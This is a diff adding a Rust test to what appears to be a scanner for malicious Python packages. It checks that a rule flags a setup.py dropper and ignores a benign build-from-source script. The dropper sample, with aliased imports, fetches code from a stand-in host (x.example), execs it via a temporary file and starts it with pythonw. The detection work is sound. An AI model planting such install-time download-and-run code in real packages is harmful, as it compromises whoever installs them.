@@ -428,3 +428,28 @@ fn install_time_code_that_writes_a_script_and_starts_it_is_a_dropper() {
                  f.write('int main(){}')\nsubprocess.run(['cc', 'probe.c'])\nsetup(name='x')\n";
     assert_lacks(&rules_for_file("setup.py", build), id);
 }
+
+#[test]
+fn a_setup_py_that_starts_a_script_it_wrote_under_aliases_is_found() {
+    // The shape of a family seen under several names: a download cradle kept in a
+    // literal, written to a temporary file, started with pythonw; every name aliased.
+    let dropper = "from os import system as _s\nfrom sys import executable as _e\n\
+                   from tempfile import NamedTemporaryFile as _t\nfrom setuptools import setup\n\
+                   _f = _t(delete=False)\n_f.write(b\"\"\"from urllib.request import urlopen as _u; _x=exec; _x(_u('https://x.example/p').read())\"\"\")\n\
+                   _f.close()\ntry:\n    if _n == 'nt':\n        _s(f\"start {_e.replace('.exe', 'w.exe')} {_f.name}\")\nexcept: pass\n\
+                   setup(name='x')\n";
+    // A build that downloads a source archive and compiles it starts no download.
+    let build = "import subprocess, tarfile, urllib.request\nfrom setuptools import setup\n\
+                 def fetch():\n    with urllib.request.urlopen(SRC) as src, open(ARCHIVE, 'wb') as dst:\n        \
+                 dst.write(src.read())\n    tarfile.open(ARCHIVE).extractall(BUILD)\n    \
+                 subprocess.check_call(['cmake', BUILD])\nfetch()\nsetup(name='x')\n";
+    fires_only_on(
+        "install/writes-and-runs-a-program",
+        "x-1.0/setup.py",
+        &[dropper],
+        &[build],
+    );
+    let build_rules = rules_for_file("x-1.0/setup.py", build);
+    assert_lacks(&build_rules, "correlate/download-write-run");
+    assert_has(&build_rules, "correlate/setup-py-network");
+}
